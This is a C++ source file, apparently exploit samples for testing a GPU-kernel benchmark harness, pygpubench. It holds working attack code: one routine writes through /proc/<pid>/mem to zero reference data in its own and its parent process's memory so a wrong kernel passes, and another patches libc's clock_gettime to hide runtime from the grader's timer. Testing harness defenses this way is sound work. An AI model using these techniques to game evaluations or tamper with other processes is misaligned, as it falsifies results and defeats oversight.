// reach.cpp: native attacks of the pygpubench exploit classes, as a candidate's extension would carry
// them (raw syscalls, no libc file calls), for the attacks of tests/exploits/.
//
// wipe_bias(x, b, pid): y = x (the bias left out; added where b is too short to find), after
//   zeroing, through /proc/<pid>/mem, every copy of b's bytes (as float32 and as float64), b's own
//   included, in the writable anonymous memory of this process and (pid > 0) of another one (its
//   parent): where the reference's bias and the harness's copies of the candidate's state live
//   there, the reference then computes x too and agrees with the wrong kernel, and the state reads
//   unchanged. A signature scan of the heap and anonymous memory (heap_sig_scan, stack_sig_scan,
//   test_canary_*, proc_mem_bypass in pygpubench's gallery).
// slow_add_bias(x, b): y = x + b, then 100 ms of spinning, with libc's clock_gettime (CLOCK_MONOTONIC,
//   what time.perf_counter reads) detoured to a clock that the spin is taken out of: whoever times
//   the call with perf_counter sees a few microseconds (function_detour, got_patch, event_array).
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr size_t kChunk = 1 << 20;
constexpr uint64_t kLargestRegion = 1ull << 30;
constexpr int64_t kSpinNs = 100000000;

std::string slurp(const char* path) {
  std::string text;
  long fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
  if (fd < 0) return text;
  char buf[4096];
  long n;
  while ((n = syscall(SYS_read, fd, buf, sizeof buf)) > 0) text.append(buf, static_cast<size_t>(n));
  syscall(SYS_close, fd);
  return text;
}

// Zero every copy of `pattern` in the rw anonymous mappings of `pid` (0: this process) but the one
// at `keep` (the pattern itself). Returns how many copies were zeroed.
int64_t wipe(long pid, const std::string& pattern, const char* keep) {
  char maps_path[64], mem_path[64];
  if (pid) {
    std::snprintf(maps_path, sizeof maps_path, "/proc/%ld/maps", pid);
    std::snprintf(mem_path, sizeof mem_path, "/proc/%ld/mem", pid);
  } else {
    std::snprintf(maps_path, sizeof maps_path, "/proc/self/maps");
    std::snprintf(mem_path, sizeof mem_path, "/proc/self/mem");
  }
  const std::string maps = slurp(maps_path);
  long mem = syscall(SYS_openat, AT_FDCWD, mem_path, O_RDWR);
  if (mem < 0) return -1;
  const std::string zeros(pattern.size(), '\0');
  std::vector<char> buf(kChunk + pattern.size());
  int64_t wiped = 0;
  size_t at = 0;
  while (at < maps.size()) {
    size_t eol = maps.find('\n', at);
    if (eol == std::string::npos) eol = maps.size();
    const std::string line = maps.substr(at, eol - at);
    at = eol + 1;
    unsigned long long start = 0, end = 0, offset = 0, inode = 0;
    char perms[8] = {0}, dev[16] = {0}, path[256] = {0};
    if (std::sscanf(line.c_str(), "%llx-%llx %7s %llx %15s %llu %255s", &start, &end, perms, &offset, dev,
                    &inode, path) < 6)
      continue;
    if (perms[0] != 'r' || perms[1] != 'w' || inode != 0 || end - start > kLargestRegion) continue;
    if (path[0] && std::strcmp(path, "[heap]") != 0) continue;
    for (uint64_t addr = start; addr < end; addr += kChunk) {
      const uint64_t want = std::min<uint64_t>(kChunk + pattern.size() - 1, end - addr);
      long got = syscall(SYS_pread64, mem, buf.data(), want, addr);
      if (got <= 0) break;
      for (const char* hit = static_cast<const char*>(memmem(buf.data(), got, pattern.data(), pattern.size()));
           hit != nullptr;
           hit = static_cast<const char*>(memmem(hit + 1, got - (hit + 1 - buf.data()), pattern.data(),
                                                 pattern.size()))) {
        const uint64_t where = addr + static_cast<uint64_t>(hit - buf.data());
        if (!pid && where == reinterpret_cast<uint64_t>(keep)) continue;
        if (syscall(SYS_pwrite64, mem, zeros.data(), zeros.size(), where) == static_cast<long>(zeros.size()))
          ++wiped;
      }
    }
  }
  syscall(SYS_close, mem);
  return wiped;
}

int64_t raw_ns() {
  struct timespec ts;
  syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &ts);
  return static_cast<int64_t>(ts.tv_sec) * 1000000000 + ts.tv_nsec;
}

int64_t hidden_ns = 0;  // how far the detoured clock runs behind the real one

extern "C" int reach_fake_clock_gettime(clockid_t id, struct timespec* ts) {
  long r = syscall(SYS_clock_gettime, id, ts);
  if (r == 0 && id == CLOCK_MONOTONIC && hidden_ns) {
    const int64_t ns = static_cast<int64_t>(ts->tv_sec) * 1000000000 + ts->tv_nsec - hidden_ns;
    ts->tv_sec = ns / 1000000000;
    ts->tv_nsec = ns % 1000000000;
  }
  return static_cast<int>(r);
}

bool detour_clock() {
  static bool done = false;
  if (done) return true;
  auto* target = reinterpret_cast<unsigned char*>(reinterpret_cast<void*>(&clock_gettime));
  const long page = sysconf(_SC_PAGESIZE);
  auto* first = reinterpret_cast<unsigned char*>(reinterpret_cast<uintptr_t>(target) & ~(page - 1));
  if (mprotect(first, 2 * page, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) return false;
  unsigned char jump[12] = {0x48, 0xB8, 0, 0, 0, 0, 0, 0, 0, 0, 0xFF, 0xE0};  // movabs rax, imm64; jmp rax
  const uint64_t to = reinterpret_cast<uint64_t>(&reach_fake_clock_gettime);
  std::memcpy(jump + 2, &to, sizeof to);
  std::memcpy(target, jump, sizeof jump);
  mprotect(first, 2 * page, PROT_READ | PROT_EXEC);
  done = true;
  return true;
}

}  // namespace

extern "C" int64_t reach_wipe_bias_f32(const float* x, const float* b, float* y, int64_t rows, int64_t cols,
                                       int64_t pid) {
  int64_t wiped = 0;
  bool zero = true;  // a zeroed bias (an earlier call's work) would match every run of zeros
  for (int64_t c = 0; c < cols; ++c) zero = zero && b[c] == 0.0f;
  if (cols >= 8 && !zero) {  // shorter patterns would match unrelated memory
    std::string as_float(reinterpret_cast<const char*>(b), cols * sizeof(float));
    std::string as_double(cols * sizeof(double), '\0');
    for (int64_t c = 0; c < cols; ++c) {
      const double v = b[c];
      std::memcpy(&as_double[c * sizeof(double)], &v, sizeof v);
    }
    for (long target : {0L, pid}) {
      for (const std::string* pattern : {&as_double, &as_float}) {
        const int64_t n = wipe(target, *pattern, pattern->data());
        if (n > 0) wiped += n;
      }
      if (pid == 0) break;
    }
  }
  if (cols >= 8) {
    for (int64_t i = 0; i < rows * cols; ++i) y[i] = x[i];
  } else {  // too short to find: this one is computed honestly
    for (int64_t r = 0; r < rows; ++r)
      for (int64_t c = 0; c < cols; ++c) y[r * cols + c] = x[r * cols + c] + b[c];
  }
  return wiped;
}

extern "C" bool reach_slow_add_bias_f32(const float* x, const float* b, float* y, int64_t rows, int64_t cols) {
  const bool hooked = detour_clock();
  const int64_t started = raw_ns();
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < cols; ++c) y[r * cols + c] = x[r * cols + c] + b[c];
  while (raw_ns() - started < kSpinNs) {
  }
  hidden_ns += raw_ns() - started;
  return hooked;
}
